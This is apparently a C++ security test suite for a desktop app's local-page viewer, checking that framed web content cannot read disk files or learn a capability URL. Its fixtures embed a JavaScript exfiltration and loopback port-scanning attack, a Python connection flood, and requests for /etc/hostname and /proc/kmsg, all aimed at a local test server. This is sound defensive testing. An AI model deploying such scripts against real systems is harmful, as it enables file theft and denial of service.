    chromiumTitle(framing.toString());
    // Chromium's budget of time may end before the frame's last beacon: that it framed the page is enough.
    ASSERT_TRUE(site.paths.contains(QStringLiteral("/framed.html"))) << site.paths.join(' ').toStdString();
    const auto peerReads = reads();
    site.paths.clear();
    help.showPage(framing);
    EXPECT_TRUE(QTest::qWaitFor(framedDone, 20000));
    QTest::qWait(200);
    EXPECT_EQ(reads(), peerReads) << site.paths.join(' ').toStdString();
    EXPECT_EQ(peerReads, 0);
    help.close();
}

}  // namespace

struct RaceRow {
    const char* name;  // the test's
    const char* trigger;
    bool frames;  // the web frame inside a page from the disk too
};

class RaceOfADiskPagesLoad : public ::testing::TestWithParam<RaceRow> {};

TEST_P(RaceOfADiskPagesLoad, NoWebDocumentGetsADiskFileWhateverTheTiming) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    raceTheLoadOfADiskPage(QLatin1String(GetParam().trigger), GetParam().frames);
}

INSTANTIATE_TEST_SUITE_P(PageTrust, RaceOfADiskPagesLoad,
                         ::testing::Values(RaceRow{"Preview", "preview (Ctrl+=)", false}, RaceRow{"RefreshOnSave", "refresh on save", false},
                                           RaceRow{"RefreshOnKeystroke", "refresh on keystroke", false},
                                           RaceRow{"ErrorPage", "error page", false}, RaceRow{"HelpAndAWebFrame", "help (F1)", true}),
                         [](const ::testing::TestParamInfo<RaceRow>& row) { return std::string(row.param.name); });

// Another program that opens thousands of connections to the page file server and never ends
// a request takes no more of the process than the server's bound: a file is still saved, the
// window answers, a page from the disk still gets its files. A page that names a file whose read
// would never end (a FIFO, a device, /proc) gets an error; and its own audio seeks.
TEST(PageTrust, ThePageFileServerCannotBeStalledNorMadeToBlock) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    TestDir dir;
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    help.showPage(QUrl::fromLocalFile(dir.write("first.html", "<title>first</title>")));
    const quint16 port = pageFileServerPort({});
    ASSERT_NE(port, 0);
    const QString image = dir.write("image.png", pixel);
    const QUrl probe = QUrl::fromLocalFile(dir.write("probe.html", "<html><head><title>loading</title></head><body><img src='image.png?" +
                                                                       QByteArray::number(QRandomGenerator::global()->generate()) +
                                                                       "' onload=\"document.title = 'shown'\" onerror=\"document.title = 'refused'\"></body></html>"));
    const auto descriptors = [] { return QDir(QStringLiteral("/proc/self/fd")).entryList(QDir::System | QDir::NoDotAndDotDot).size(); };
    const qsizetype before = descriptors();

    QProcess flood;
    flood.setProcessChannelMode(QProcess::ForwardedErrorChannel);
    flood.start(QStringLiteral("python3"), {"-c", R"(
import resource, socket, sys, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
for i in range(2000):
    try:
        s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=2)
        s.send(b'GET /etc/hostname HTTP/1.1\r\nHost: 127.0.0.1\r\n')
        held.append(s)
    except OSError:
        pass
print(len(held), flush=True)
time.sleep(120)
)", QString::number(port)});
    ASSERT_TRUE(flood.waitForStarted());
    QElapsedTimer clock;
    clock.start();
    qint64 longest = 0;
    while (flood.bytesAvailable() == 0 && clock.elapsed() < 60000) longest = std::max(longest, longestStall(50));
    ASSERT_GT(flood.readAll().trimmed().toInt(), 0);
    longest = std::max(longest, longestStall(500));
    RecordProperty("longest_window_stall_ms", int(longest));  // a figure: the state is what follows, done while they are held
    EXPECT_LT(descriptors() - before, 2 * 48);
    // A save, while they are held.
    QSaveFile save(dir.file("saved.txt"));
    ASSERT_TRUE(save.open(QIODevice::WriteOnly));
    save.write("typed text");
    EXPECT_TRUE(save.commit());
    EXPECT_EQ(readAll(dir.file("saved.txt")), "typed text");
    QSignalSpy titles(help.webView(), &QVWebView::titleChanged);
    help.showPage(probe);
    EXPECT_EQ(settledTitle(titles, {"shown", "refused"}), "shown");
    flood.kill();
    flood.waitForFinished();
    // After them, the server answers at once.
    clock.restart();
    EXPECT_EQ(answerTo(port, "GET / HTTP/1.1\r\n\r\n"), "HTTP/1.1 403 Forbidden");

    // Files whose reads wait for ever, named by an image (the server) and a frame (the scheme).
    const QString fifo = dir.file("fifo");
    ASSERT_EQ(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
    struct Blocking {
        const char* name;
        QString path;
    };
    for (const Blocking& row : QList<Blocking>{{"/proc/kmsg", "/proc/kmsg"}, {"a FIFO", fifo}, {"/dev/zero", "/dev/zero"}, {"/proc/self/stat", "/proc/self/stat"}}) {
        SCOPED_TRACE(row.name);
        const QByteArray address = QUrl::toPercentEncoding(row.path, "/");
        const QUrl page = QUrl::fromLocalFile(dir.write("blocking-" + QFileInfo(row.path).fileName() + ".html", "<html><head><title>loading</title></head><body><iframe src='" + address +
                                                                             "'></iframe><img src='" + address +
                                                                             "' onload=\"document.title = 'image'\" onerror=\"document.title = 'error'\"></body></html>"));
        help.showPage(page);
        EXPECT_EQ(settledTitle(titles, {"image", "error"}, 10000), "error");
        titles.clear();
        // No read of it is left waiting, on any thread: none of this process's descriptors is open on it.
        const QString opened = QFileInfo(row.path).canonicalFilePath();
        const QFileInfoList fds = QDir(QStringLiteral("/proc/self/fd")).entryInfoList(QDir::System | QDir::NoDotAndDotDot);
        EXPECT_FALSE(std::any_of(fds.begin(), fds.end(), [&](const QFileInfo& fd) { return fd.symLinkTarget() == opened; }));
        EXPECT_TRUE(QTest::qWaitFor([&] { return help.webView()->loadProgress() == 100; }, 10000));
    }

    // A page's own audio: three seconds, asked to play from the second.
    QByteArray wave(3 * 8000, char(0x80));
    QByteArray header = "RIFF" + QByteArray(4, 0) + "WAVEfmt ";
    const auto le = [](quint32 value, int bytes) {
        QByteArray out;
        for (int i = 0; i < bytes; ++i) out += char((value >> (8 * i)) & 0xff);
        return out;
    };
    header += le(16, 4) + le(1, 2) + le(1, 2) + le(8000, 4) + le(8000, 4) + le(1, 2) + le(8, 2) + "data" + le(quint32(wave.size()), 4);
    header.replace(4, 4, le(quint32(header.size() - 8 + wave.size()), 4));
    dir.write("media/sound.wav", header + wave);
    const QString mediaPage = dir.write("media/audio.html", R"(<html><head><title>loading</title></head><body><audio id="a" src="sound.wav" preload="auto"></audio><script>
var a = document.getElementById('a');
a.onloadedmetadata = function () { a.currentTime = 2; };
a.onseeked = function () { document.title = 'seeked to ' + Math.round(a.currentTime) + ' of ' + (a.seekable.length ? Math.round(a.seekable.end(0)) : 0); };
a.onerror = function () { document.title = 'error'; };
</script></body></html>)");
    const QString peer = chromiumTitle(QUrl::fromLocalFile(mediaPage).toString());
    titles.clear();
    help.showPage(QUrl::fromLocalFile(mediaPage));
    EXPECT_EQ(settledTitle(titles, {"seeked", "error"}), peer.isEmpty() ? QStringLiteral("seeked to 2 of 3") : peer);
    EXPECT_EQ(peer, "seeked to 2 of 3");
    help.close();
}

namespace {

// What every document a web page makes runs, as a web frame inside a page from the disk: it
// reports what it can learn of the page that holds it (its referrer, its ancestors' origins, its
// window's name, its base, the addresses of what it loaded), then asks for another project's
// script by every name it has: the file's own, the page scheme's (with its old host and any host
// it learned), and the page file server's, at the port handed over and at each port of a scan,
// with and without what it learned as the first step. The scan tries ports of loopback among
// which the server's is, not told which (ports just closed: others on a shared machine may hold
// a connection for ever); a worker scans the first four. A script that ran is a request for /read-... at the site; /ran-<kind>
// says it is done. Each document starts three dedicated workers that do the same, with what it
// learned, each for a third of the addresses; the outer page makes the four frames of no site,
// or sends itself to data:.
const char* const attackScript = R"js(function qvAttack(kind, inherited, part) {
  var SITE = '@SITE@', PORT = @PORT@, SCAN = [@SCAN@], CONFIG = '@CONFIG@', PARTS = 3;
  var inWorker = typeof document === 'undefined';
  function beacon(what) { fetch(SITE + '/' + what, {mode: 'no-cors'}).catch(function () {}); }
  var learned = [];
  function learn(f) { try { var v = f(); if (v) learned.push(String(v)); } catch (e) {} }
  if (!inWorker) {
    learn(function () { return document.referrer; });
    learn(function () { return Array.from(location.ancestorOrigins).join(' '); });
    learn(function () { return window.name; });
    learn(function () { return document.baseURI; });
  }
  learn(function () { return performance.getEntries().map(function (e) { return e.name; }).join(' '); });
  beacon('learned-' + kind + '?' + encodeURIComponent(learned.join(' ')));
  var steps = ['local'].concat(inherited || []);
  learned.join(' ').split(/\s+/).forEach(function (word) {
    var m = /^[a-z-]+:\/\/([^\/?#]+)/.exec(word);
    if (m && steps.indexOf(m[1]) < 0) steps.push(m[1]);
  });
  var addresses = ['file://' + CONFIG, 'http://127.0.0.1:' + PORT + CONFIG];
  steps.forEach(function (step) {
    addresses.push('qv' + 'file://' + step + CONFIG);
    addresses.push('http://127.0.0.1:' + PORT + '/' + step + CONFIG);
  });
  // A worker's loads wait on each other, and each takes a while: a worker scans the first ports
  // alone, the server's among them.
  SCAN.slice(0, inWorker ? 4 : SCAN.length).forEach(function (p) {
    addresses.push('http://127.0.0.1:' + p + '/local' + CONFIG, 'http://127.0.0.1:' + p + CONFIG);
  });
  function caught(address) {
    if (self.stolen !== 'QVSECRET') return;
    self.stolen = undefined;
    beacon('read-' + kind + '-' + encodeURIComponent(address));
  }
  if (inWorker) {
    addresses.forEach(function (address, i) {
      if (i % PARTS !== part) return;
      try { importScripts(address); } catch (e) {}
      caught(address);
    });
    return beacon('ran-' + kind);
  }
  var left = addresses.length;
  addresses.forEach(function (address) {
    var s = document.createElement('script');
    s.src = address;
    s.onload = s.onerror = function () { caught(address); if (--left === 0) beacon('ran-' + kind); };
    document.head.appendChild(s);
  });
  var code = '(' + qvAttack.toString() + ')';
  for (var n = 0; n < PARTS; ++n) {
    var start = code + '("worker-' + kind + '-' + n + '", ' + JSON.stringify(steps) + ', ' + n + ')';
    try {
      new Worker(URL.createObjectURL(new Blob([start], {type: 'text/javascript'})));
    } catch (e) {
      try { new Worker('data:text/javascript,' + encodeURIComponent(start)); } catch (e2) { beacon('no-worker-' + kind); }
    }
  }
  if (kind !== 'outer') return;
  function doc(k) { return '<html><head></head><body><script>' + code + '("' + k + '")<\/script></body></html>'; }
  function frame(sandboxed, set) {
    var f = document.createElement('iframe');
    if (sandboxed) f.sandbox = 'allow-scripts';
    set(f);
    document.body.appendChild(f);
  }
  frame(true, function (f) { f.srcdoc = doc('srcdoc'); });
  frame(false, function (f) { f.src = 'data:text/html,' + encodeURIComponent(doc('data')); });
  frame(true, function (f) { f.src = URL.createObjectURL(new Blob([doc('blob')], {type: 'text/html'})); });
  frame(true, function (f) { f.src = 'data:text/html,' + encodeURIComponent(doc('sandboxed-data')); });
})js";

// The kinds of document that report they ran, each with its worker.
QStringList attackKinds() {
    QStringList kinds;
    for (const char* kind : {"outer", "srcdoc", "data", "blob", "sandboxed-data", "self"}) {
        kinds << kind;
        for (int part = 0; part < 3; ++part) kinds << QStringLiteral("worker-%1-%2").arg(QLatin1String(kind)).arg(part);
    }
    return kinds;
}

struct Framing {
    const char* name;  // the test's
    const char* frame;  // the disk page's frame element: @SRC@ is the web page's address
    const char* outer;  // the path of the web page framed
    bool nested;        // the web page is framed by another web page, itself framed by the disk page
};

// The web page a disk page frames, and what it makes, in Chromium on file: and in each view that
// shows pages from the disk: none reads a file, none learns the page scheme's address.
void framedWebDocumentsInside(const Framing& framing, QLatin1String only) {
    LoopbackSite site;
    TestDir dir;
    QVIntegratedPreviewController::install();
    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    QVInfoWindowController& welcome = QVInfoWindowController::sharedInstance();
    // A page from the disk first: the page file server listens from the first view made.
    help.showPage(QUrl::fromLocalFile(dir.write("first.html", "<title>first</title>")));
    const quint16 port = pageFileServerPort({site.port()});
    ASSERT_NE(port, 0);
    const QString config = dir.write("other/config.js", "self.stolen = 'QVSECRET';");
    // The server's port is among the first four, which a worker scans too.
    QList<QByteArray> scan{QByteArray::number(port), QByteArray::number(site.port())};
    for (int i = 0; i < 8; ++i) {
        QTcpServer closed;
        closed.listen(QHostAddress::LocalHost);
        scan.insert(QRandomGenerator::global()->bounded(int(scan.size()) + 1), QByteArray::number(closed.serverPort()));
    }
    scan.move(scan.indexOf(QByteArray::number(port)), QRandomGenerator::global()->bounded(4));
    const QByteArray attack = QByteArray(attackScript)
                                  .replace("@SITE@", site.address().toUtf8())
                                  .replace("@PORT@", QByteArray::number(port))
                                  .replace("@SCAN@", scan.join(", "))
                                  .replace("@CONFIG@", QUrl::toPercentEncoding(config, "/"));
    const QByteArray outer = "<html><head></head><body><script>" + attack +
                             "\nif (location.search === '?self') location = 'data:text/html,' + encodeURIComponent('<html><head></head><body><script>(' + "
                             "qvAttack.toString() + ')(\"self\")<\\/script></body></html>');\nelse qvAttack('outer');\n</script></body></html>";
    site.pages.insert("/outer.html", outer);
    site.pages.insert("/outer-csp.html", outer);
    site.headers.insert("/outer-csp.html", "Content-Security-Policy: sandbox allow-scripts\r\n");
    const auto frames = [&](const QByteArray& element) {
        const QByteArray src = site.address().toUtf8() + framing.outer;
        return QByteArray(element).replace("@SRC@", src) + QByteArray(element).replace("@SRC@", src + "?self");
    };
    site.pages.insert("/nest.html", "<html><body>" + frames("<iframe src='@SRC@'></iframe>") + "</body></html>");
    const QByteArray inside = framing.nested ? QByteArray(framing.frame).replace("@SRC@", site.address().toUtf8() + "/nest.html")
                                             : frames(framing.frame);
    // The disk page asks for whole referrers, and its stylesheet takes another from the site: what
    // that stylesheet loads names it as referrer, and its address there holds the capability.
    dir.write("site/style.css", "@import url(" + site.address().toUtf8() + "/cdn.css);\nhtml { background: url(" + site.address().toUtf8() + "/cdn.png); }");
    const QUrl page = QUrl::fromLocalFile(dir.write(
        "site/index.html", "<html><head><title>framing</title><meta name='referrer' content='unsafe-url'><link rel='stylesheet' href='style.css'></head><body>" +
                               inside + "</body></html>"));

    const QStringList kinds = attackKinds();
    const auto ran = [&] {
        QStringList done;
        for (const QString& kind : kinds)
            if (site.paths.contains("/ran-" + kind)) done << kind;
        return done;
    };
    const auto reads = [&] { return site.paths.filter(QRegularExpression(QStringLiteral("^/read-"))); };
    // Any request to the site that names the page scheme or holds what could be the capability
    // (the attack spells the scheme in two pieces; a blob's name breaks its hex with dashes).
    const QRegularExpression capabilityLike(QStringLiteral("[0-9a-f]{32}"));
    const auto told = [&] {
        QStringList found;
        for (const QByteArray& request : site.requests)
            if (request.contains("qvfile") || capabilityLike.match(QString::fromLatin1(request)).hasMatch())
                found << QString::fromUtf8(request.left(request.indexOf("\r\n\r\n")));
        return found;
    };

    // Chromium on file: is the peer: its documents run and read nothing. Its budget of time may
    // end before some report on a loaded machine: every one that did is one Qorvel's must run too.
    site.paths.clear();
    site.requests.clear();
    chromiumTitle(page.toString(), 30000);
    const QStringList peerRan = ran();
    // The outer page reports last, after every load it tried: on a loaded machine the workers it
    // started are what shows it ran.
    EXPECT_FALSE(peerRan.filter(QRegularExpression(QStringLiteral("^(worker-)?outer"))).isEmpty()) << peerRan.join(' ').toStdString();
    EXPECT_EQ(reads(), QStringList());
    EXPECT_EQ(told(), QStringList());

    struct View {
        const char* name;
        QMainWindow* window;
        QVWebView* view;
        std::function<void()> show;
    };
    const QList<View> views = {
        {"preview", &preview, preview.webView(), [&] { preview.showURL(page.toString()); }},
        {"help", &help, help.webView(), [&] { help.showPage(page); }},
        {"welcome", &welcome, welcome.infoWebView(),
         [&] {
             welcome.show();
             welcome.infoWebView()->load(page);
         }},
    };
    for (const View& v : views) {
        if (QLatin1String(v.name) != only) continue;
        SCOPED_TRACE(v.name);
        site.paths.clear();
        site.requests.clear();
        v.show();
        EXPECT_TRUE(QTest::qWaitFor([&] { return ran().size() == kinds.size(); }, 120000))
            << "ran " << ran().join(' ').toStdString() << "; " << site.paths.filter(QRegularExpression(QStringLiteral("^/no-worker"))).join(' ').toStdString();
        for (const QString& kind : peerRan) EXPECT_TRUE(ran().contains(kind)) << kind.toStdString();
        QTest::qWait(300);
        EXPECT_EQ(reads(), QStringList());
        EXPECT_EQ(told(), QStringList());
        EXPECT_EQ(v.view->url(), page);
        v.window->close();
    }
}

}  // namespace

struct FramingRow {
    Framing framing;
    const char* view;
};

void PrintTo(const FramingRow& row, std::ostream* out) { *out << row.framing.name << " in " << row.view; }

class WebDocumentsInsideADiskPage : public ::testing::TestWithParam<FramingRow> {};

TEST_P(WebDocumentsInsideADiskPage, ReadNoFileAndLearnNoCapability) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    framedWebDocumentsInside(GetParam().framing, QLatin1String(GetParam().view));
}

namespace {

constexpr Framing plainFrame{"Framed", "<iframe src='@SRC@'></iframe>", "/outer.html", false};
constexpr Framing sandboxedFrame{"SandboxedByTheDiskPage", "<iframe sandbox='allow-scripts' src='@SRC@'></iframe>", "/outer.html", false};
constexpr Framing cspFrame{"SandboxedByItsHeader", "<iframe src='@SRC@'></iframe>", "/outer-csp.html", false};
constexpr Framing nestedFrame{"NestedTwoDeep", "<iframe src='@SRC@'></iframe>", "/outer.html", true};

std::vector<FramingRow> framingRows() {
    std::vector<FramingRow> rows;
    for (const Framing& framing : {plainFrame, sandboxedFrame, cspFrame, nestedFrame})
        for (const char* view : {"preview", "help", "welcome"}) rows.push_back({framing, view});
    return rows;
}

}  // namespace

INSTANTIATE_TEST_SUITE_P(PageTrust, WebDocumentsInsideADiskPage, ::testing::ValuesIn(framingRows()),
                         [](const ::testing::TestParamInfo<FramingRow>& row) {
                             std::string view = row.param.view;
                             view[0] = char(std::toupper(view[0]));
                             return std::string(row.param.framing.name) + "In" + view;
                         });

// What a page from the disk is made of loads in every view that shows one as Chromium shows the
// page on file:, load events and all: images, scripts, stylesheets, fonts, its own sandboxed
// frame of a file and what that shows; an ES module refused; a frame of a missing file still
// loads (Chromium shows its error there), as does a frame of a text file; text in UTF-8 with no
// charset declared reads as UTF-8.
TEST(PageTrust, APageFromTheDiskIsMadeOfItsFilesAsChromiumShowsItOnFile) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    TestDir dir;
    dir.write("parts/own.css", "body { color: rgb(1, 2, 3); }");
    dir.write("parts/own.js", "window.ownScript = true;");
    dir.write("parts/module.js", "window.ownModule = true;");
    dir.write("parts/own.png", pixel);
    dir.write("parts/café.txt", "na\xc3\xafve");
    QFile font(QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"));
    ASSERT_TRUE(font.open(QIODevice::ReadOnly)) << "fonts-dejavu-core is missing";
    dir.write("parts/font.ttf", font.readAll());
    dir.write("parts/frame.html", "<html><body><img src='own.png' onload=\"parent.postMessage('sandboxed frame image load', '*')\" "
                                  "onerror=\"parent.postMessage('sandboxed frame image error', '*')\"></body></html>");
    const QString pagePath = dir.write("page.html", R"page(<!DOCTYPE html><html><head><title>loading</title>
<link rel="stylesheet" href="parts/own.css" onload="ev('stylesheet load')" onerror="ev('stylesheet error')">
<style>@font-face { font-family: Own; src: url(parts/font.ttf); }</style>
<script src="parts/own.js" onload="ev('script load')" onerror="ev('script error')"></script>
<script type="module" src="parts/module.js" onload="ev('module load')" onerror="ev('module error')"></script>
<script>
var events = [];
function ev(e) { events.push(e); }
window.addEventListener('message', function (e) { ev(String(e.data)); });
window.onload = function () {
  ev('window load');
  var text = document.getElementById('text');
  // The sandboxed frame's word of its image comes as a message, after its load on a busy machine.
  var waited = 0;
  setTimeout(function finish() {
    if (!events.some(function (e) { return e.indexOf('sandboxed frame image') === 0; }) && (waited += 100) < 5000) return setTimeout(finish, 100);
    document.fonts.load('16px Own').then(function (fonts) { ev(fonts.length ? 'font load' : 'no font'); }, function () { ev('font error'); })
      .finally(function () {
        var t = '';
        try { t = ' ' + document.getElementById('plain').contentDocument.body.textContent; } catch (e) { t = ' ' + e.name; }
        document.title = 'done ' + JSON.stringify({events: events.sort(), charset: document.characterSet, text: text.textContent,
          color: getComputedStyle(document.body).color, script: !!window.ownScript, module: !!window.ownModule});
      });
  }, 500);
};
</script></head><body><p id="text">café</p><p style="font-family: Own">font</p>
<img src="parts/own.png" onload="ev('image load')" onerror="ev('image error')">
<iframe sandbox="allow-scripts" src="parts/frame.html" onload="ev('sandboxed frame load')"></iframe>
<iframe src="parts/missing.html" onload="ev('missing frame load')"></iframe>
<iframe id="plain" src="parts/caf%C3%A9.txt" onload="ev('text frame load')"></iframe>
</body></html>)page");
    const QUrl page = QUrl::fromLocalFile(pagePath);
    const QString peer = chromiumTitle(page.toString());
    ASSERT_TRUE(peer.startsWith(QLatin1String("done "))) << peer.toStdString();
    // The peer's answer, checked for what it must hold so that a change of it shows.
    const QJsonObject peerParts = QJsonDocument::fromJson(peer.mid(5).toUtf8()).object();
    EXPECT_EQ(peerParts.value("text").toString(), QString::fromUtf8("café"));
    EXPECT_TRUE(peerParts.value("events").toArray().contains("missing frame load")) << peer.toStdString();
    EXPECT_TRUE(peerParts.value("events").toArray().contains("module error")) << peer.toStdString();
    // One difference: a sandboxed frame of a file is of no origin in both, and Chromium gives it
    // no file of its own; Qorvel cannot tell its requests from the page's, and gives it the
    // page's (no web document is either).
    ASSERT_TRUE(peerParts.value("events").toArray().contains("sandboxed frame image error")) << peer.toStdString();
    const QString expected = QString(peer).replace(QLatin1String("sandboxed frame image error"), QLatin1String("sandboxed frame image load"));

    QVIntegratedPreviewController::install();
    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    QVInfoWindowController& welcome = QVInfoWindowController::sharedInstance();
    struct View {
        const char* name;
        QMainWindow* window;
        QVWebView* view;
        std::function<void()> show;
    };
    for (const View& v : QList<View>{{"preview", &preview, preview.webView(), [&] { preview.showURL(page.toString()); }},
                                     {"help", &help, help.webView(), [&] { help.showPage(page); }},
                                     {"welcome", &welcome, welcome.infoWebView(),
                                      [&] {
                                          welcome.show();
                                          welcome.infoWebView()->load(page);
                                      }}}) {
        SCOPED_TRACE(v.name);
        QSignalSpy titles(v.view, &QVWebView::titleChanged);
        v.show();
        EXPECT_EQ(settledTitle(titles, {"done "}), expected);
        v.window->close();
    }
    welcome.infoWebView()->load(QUrl::fromLocalFile(AppBundle::main().pathForResource(QStringLiteral("info"), QStringLiteral("html"))));
}

// The mark a view's requests carry, asked of the engine's library in this process.
QByteArray requestMarkOf(QVWebView* view) {
    QLibrary engine(QCoreApplication::applicationDirPath() + QStringLiteral("/../lib/qorvel/libqorvel-webengine.so"));
    QByteArray mark;
    if (auto get = reinterpret_cast<void (*)(QVWebView*, QByteArray*)>(engine.resolve("qorvelPageRequestMark"))) get(view, &mark);
    return mark;
}

// The capability, as the page that holds it sees its own address, opens the page file server to
// this process's requests (the engine's network service runs here) with its view's mark, while
// the page shows (never without the mark, nor with another view's), never to another program
// (curl) even then; a range of a file is answered as RFC 9110 says, an end past the file's (even
// past 2^64) being the file's end.
TEST(PageTrust, ThePageFileServerAnswersRangesOfAFileToACapabilityWhileItsPageShows) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    TestDir dir;
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    QSignalSpy titles(help.webView(), &QVWebView::titleChanged);
    help.showPage(QUrl::fromLocalFile(dir.write("own.html", "<html><head><title>loading</title></head><body><script>"
                                                           "document.title = 'host ' + location.host;</script></body></html>")));
    const QString capability = settledTitle(titles, {"host "}).mid(5);
    ASSERT_EQ(capability.size(), 32) << capability.toStdString();
    const quint16 port = pageFileServerPort({});
    ASSERT_NE(port, 0);
    const QByteArray mark = requestMarkOf(help.webView());
    QVIntegratedPreviewController::install();
    const QByteArray otherMark = requestMarkOf(QVIntegratedPreviewController::sharedPreview().webView());
    ASSERT_EQ(mark.size(), 32);
    ASSERT_EQ(otherMark.size(), 32);
    ASSERT_NE(mark, otherMark);
    const QStringList asView{"-H", "Qorvel-View: " + QString::fromLatin1(mark)};
    const QString file = dir.write("ten.txt", "0123456789");
    const QString served = QStringLiteral("http://127.0.0.1:%1/").arg(port);
    struct Row {
        const char* name;
        QString address;
        QString range;   // empty: none
        QString status;  // and the body after a blank line
        QStringList headers = {};  // instead of the view's mark
    };
    const QString own = served + capability + file;
    const QList<Row> rows{
        {"whole", own, "", "200 0123456789"},
        {"the capability in capitals", served + capability.toUpper() + file, "", "403"},
        {"the capability cut short", served + capability.chopped(1) + file, "", "403"},
        {"a NUL, then another name", own + "%00.png", "", "404"},
        {"first bytes", own, "0-4", "206 bytes 0-4/10 01234"},
        {"from an offset", own, "7-", "206 bytes 7-9/10 789"},
        {"a suffix", own, "-3", "206 bytes 7-9/10 789"},
        {"an end past the file's", own, "0-20", "206 bytes 0-9/10 0123456789"},
        {"an end of 2^64", own, "2-18446744073709551616", "206 bytes 2-9/10 23456789"},
        {"an end of 30 digits", own, "8-999999999999999999999999999999", "206 bytes 8-9/10 89"},
        {"a start past the file's end", own, "10-", "416 bytes */10"},
        {"an end before the start", own, "5-3", "416 bytes */10"},
        {"no mark", own, "", "403", {"-H", "X-None: 1"}},
        {"another view's mark", own, "", "403", {"-H", "Qorvel-View: " + QString::fromLatin1(otherMark)}},
        {"a mark in capitals", own, "", "403", {"-H", "Qorvel-View: " + QString::fromLatin1(mark.toUpper())}},
        {"a font's question first", own, "", "204", {"-X", "OPTIONS", "-H", "Access-Control-Request-Method: GET", "-H", "Access-Control-Request-Headers: qorvel-view"}},
        {"another question first", own, "", "405", {"-X", "OPTIONS", "-H", "Access-Control-Request-Method: GET", "-H", "Access-Control-Request-Headers: range"}},
    };
    // "status content-range body" of address as this process asks for it, with curl's words for
    // the method and headers (the view's mark unless others are given).
    const auto get = [&](const QString& address, const QString& range, const QStringList& words) {
        const QUrl url(address);
        QByteArray method = "GET", headers;
        for (qsizetype i = 0; i + 1 < words.size(); i += 2) {
            if (words[i] == QLatin1String("-X")) method = words[i + 1].toUtf8();
            else headers += words[i + 1].toUtf8() + "\r\n";
        }
        QTcpSocket socket;
        QByteArray answer;
        QObject::connect(&socket, &QTcpSocket::readyRead, [&] { answer += socket.readAll(); });
        socket.connectToHost(QHostAddress::LocalHost, quint16(url.port()));
        socket.write(method + ' ' + url.path(QUrl::FullyEncoded).toUtf8() + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + headers +
                     (range.isEmpty() ? QByteArray() : "Range: bytes=" + range.toUtf8() + "\r\n") + "\r\n");
        if (!QTest::qWaitFor([&] { return socket.state() == QAbstractSocket::UnconnectedState; }, 20000)) return QStringLiteral("no answer");
        const qsizetype end = answer.indexOf("\r\n\r\n");
        const QList<QByteArray> head = answer.left(end).split('\n');
        const QByteArray code = head.value(0).split(' ').value(1);
        QByteArray contentRange;
        for (const QByteArray& line : head)
            if (line.toLower().startsWith("content-range:")) contentRange = line.mid(14).trimmed();
        return QString::fromUtf8(code + ' ' + contentRange + ' ' + (code.startsWith("20") ? answer.mid(end + 4) : QByteArray())).simplified();
    };
    for (const Row& row : rows) EXPECT_EQ(get(row.address, row.range, row.headers.isEmpty() ? asView : row.headers), row.status) << row.name;
    // Another program holding the capability and the mark, while the page shows: nothing, as a
    // site's page in a browser of this machine that a beacon told the page's address.
    QProcess curl;
    curl.start(QStringLiteral("curl"), QStringList{"-s", "-g", "-o", "/dev/null", "-w", "%{http_code}", own} + asView);
    ASSERT_TRUE(curl.waitForFinished(20000));
    EXPECT_EQ(QString::fromUtf8(curl.readAllStandardOutput()), "403") << "curl";
    EXPECT_EQ(get(own, {}, asView), "200 0123456789");

    // The capability holds while its page shows: gone once the view shows another (a page's own
    // script that carried it off has nothing), for good: going back to the page shows it under a
    // new one, which a reload keeps; another load of the same file has one of its own.
    const auto status = [&](const QString& address) { return get(address, {}, asView).section(' ', 0, 0); };
    titles.clear();
    help.showPage(QUrl::fromLocalFile(dir.write("next.html", "<html><head><title>next</title></head><body></body></html>")));
    ASSERT_EQ(settledTitle(titles, {"next"}), "next");
    EXPECT_EQ(status(own), "403");
    titles.clear();
    help.webView()->back();
    // (The view names the page by its history entry's title, the old one, until its script runs.)
    QString back;
    EXPECT_TRUE(QTest::qWaitFor(
        [&] {
            back = titles.isEmpty() ? QString() : titles.last().first().toString().mid(5);
            return back.size() == 32 && back != capability;
        },
        30000));
    EXPECT_EQ(help.webView()->url(), QUrl::fromLocalFile(dir.file("own.html")));
    EXPECT_EQ(status(own), "403");
    EXPECT_EQ(status(served + back + file), "200");
    titles.clear();
    help.webView()->reload();
    ASSERT_EQ(settledTitle(titles, {"host "}), "host " + back);
    EXPECT_EQ(status(served + back + file), "200");
    titles.clear();
    help.webView()->load(QUrl::fromLocalFile(dir.file("own.html")));
    const QString again = settledTitle(titles, {"host "}).mid(5);
    EXPECT_NE(again, capability);
    EXPECT_NE(again, back);
    EXPECT_EQ(status(served + again + file), "200");
    EXPECT_EQ(status(own), "403");
    EXPECT_EQ(status(served + back + file), "403");
    help.close();
}

namespace {

// The site a page from the disk hands its address to. Once it shows, it and its frames (one of the
// site, one sandboxed, so of no site) and its workers (a dedicated one, and a shared one, of no
// view) keep trying another project's script and image
// by that address (the page scheme's, and the page file server's when port is given), every 300 ms,
// and in a burst while the view goes back (with frames of the script too, and as the page is hidden).
// A script that ran or an image that loaded is a request for /read-... at the site; each document
// says /armed-<kind> once it tries. route: how it goes back to the page from the disk, history.back(),
// history.go(-1), history.back() replaced at once by another page of the site ("replace"), or "user"
// (it says /ready and waits for the user's Back).
const char* const returningAttack = R"js(function qvAgent(kind, from, PORT, SITE, route) {
  var inWorker = typeof document === 'undefined';
